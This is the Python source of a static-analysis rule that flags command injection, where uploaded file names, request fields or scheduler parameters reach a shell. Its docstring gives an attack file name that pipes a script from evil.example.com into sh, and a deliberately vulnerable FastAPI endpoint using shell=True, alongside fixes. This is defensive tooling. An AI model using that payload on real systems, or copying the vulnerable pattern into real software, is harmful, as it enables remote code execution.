"""Values that others decide reach a shell."""

from __future__ import annotations

from collections.abc import Iterator

from whence.rules.data.pipeline.provenance import (
    doubts,
    evidence,
    exposed,
    is_export,
    only_tests,
    severity_of,
    shown,
    subject,
    told,
    who_decides,
)
from whence.vocabulary.evidence import Evidence
from whence.vocabulary.fact.code import Exposure, Origin, ProcessLaunch
from whence.vocabulary.fact.deployment import ShellCommand
from whence.vocabulary.finding import Confidence, Observation, Severity
from whence.vocabulary.graph import SupplyGraph
from whence.vocabulary.rule import rule

_BY_ENVIRONMENT = """Let the command name a variable, in quotes, and hand the value over beside it:
```python
BashOperator(
    task_id="convert",
    bash_command='convert -- "$SOURCE"',
    env={"SOURCE": "{{ dag_run.conf['source'] }}"},
    append_env=True,
)
```"""


@rule(severity=Severity.CRITICAL, references=("CWE-78", "CWE-88", "AML.T0011", "OWASP-LLM05:2025"))
def check(use: ProcessLaunch | ShellCommand, graph: SupplyGraph) -> Iterator[Observation]:
    """A value that others decide is put into the text of a shell command.

    A shell reads `;`, `|`, `$(…)` and backquotes as commands. File names of a downloaded archive,
    columns of a table and fields of a request may hold them.

    ## Attack
    Somebody names a file `x; curl evil.example.com | sh #.wav` and uploads it. The job that
    converts it puts the name into a command line, and the shell runs the rest of the name.

    ## Fix
    Give the program its arguments as a list, without a shell:
    ```python
    subprocess.run(["ffmpeg", "-i", source, "-ar", "16000", target], check=True)
    ```

    ## Score
    - AV:N the value comes over the network
    - AC:L shell characters are enough
    - PR:N sending a value needs no account on this system
    - UI:N the job runs by itself
    - S:U what runs is the process's own account
    - C:H it reads what the process reads
    - I:H it changes what the process writes
    - A:H it can end the process

    ## Bad
    ```python convert.py
    import subprocess

    from fastapi import FastAPI, UploadFile

    app = FastAPI()


    @app.post("/transcribe")
    async def transcribe(clip: UploadFile):
        command = f"ffmpeg -i /uploads/{clip.filename} -ar 16000 out.wav"
        subprocess.run(command, shell=True, check=True)  # finding
    ```
    ## Good
    ```python convert.py
    import shlex
    import subprocess

    from fastapi import FastAPI, UploadFile

    app = FastAPI()


    @app.post("/transcribe")
    async def transcribe(clip: UploadFile):
        subprocess.run(["ffmpeg", "-i", f"/uploads/{clip.filename}", "out.wav"], check=True)
        subprocess.run(f"soxi {shlex.quote(clip.filename)}", shell=True, check=True)
        subprocess.run("nvidia-smi | head -3", shell=True, check=True)
    ```
    """
    if isinstance(use, ShellCommand):
        yield from _named_by_files(use)
        return
    if not use.shell or only_tests(use) or is_export(use):
        return
    for origin in exposed(use, Exposure.UNKNOWN, "quoted", "allow-list", "characters"):
        if origin.exposure is Exposure.UNKNOWN and use.artefact.strip("?") == "":
            continue
        weak = origin.exposure <= Exposure.OPERATOR
        yield Observation(
            subject=_decision(use, origin),
            message=(
                f"`{use.callee}` gives {told(origin)} to a shell{shown(use)}:"
                f" {who_decides(origin)}.{doubts(origin)} Right would be {_right(use)}."
            ),
            evidence=evidence(use, origin, f"{use.callee} runs it in a shell"),
            severity=severity_of(origin),
            because=who_decides(origin),
            confidence=Confidence.MEDIUM if weak else Confidence.HIGH,
            fix=_BY_ENVIRONMENT if _is_task(use) else "",
        )


def _decision(use: ProcessLaunch, origin: Origin) -> str:
    """One file that hands its options to a shell decided it once, however many these are."""
    if origin.exposure is Exposure.OPERATOR:
        return f"options:{use.span.path}"
    return subject(use, origin)


def _is_task(use: ProcessLaunch) -> bool:
    """Whether a scheduler renders the command, so that there is no argument list to pass."""
    return use.callee.rpartition(".")[2].endswith(("Operator", "Sensor"))


def _right(use: ProcessLaunch) -> str:
    if not _is_task(use):
        return "an argument list without a shell"
    named = "environment" if use.callee.endswith("SSHOperator") else "env"
    return f"to hand the value over in `{named}=` and to write its variable in quotes"


def _named_by_files(command: ShellCommand) -> Iterator[Observation]:
    """`sh -c "sox {}"` below `find` or `xargs`, which write the names of files into the text."""
    words = command.argv
    for number, word in enumerate(words[:-2]):
        shell = word.rpartition("/")[2] in ("sh", "bash", "zsh", "dash")
        if (
            not shell
            or words[number + 1] not in ("-c", "-lc", "-ec")
            or "{}" not in words[number + 2]
        ):
            continue
        if number and words[0].rpartition("/")[2] not in ("find", "xargs", "fd"):
            continue
        yield Observation(
            subject=f"names:{command.span.path}",
            message=(
                f"`{' '.join(words[number : number + 3])[:80]}` gets the names of files as text of a shell's command:"
                " a name with `;` or `$(…)` in it is run. Right would be `sh -c 'sox \"$1\"' _ {}`, or the program without a shell."
            ),
            evidence=(Evidence(command.span, "names become commands"),),
            severity=Severity.HIGH,
            because="a file of such a name has to get into the folder first",
        )
        return
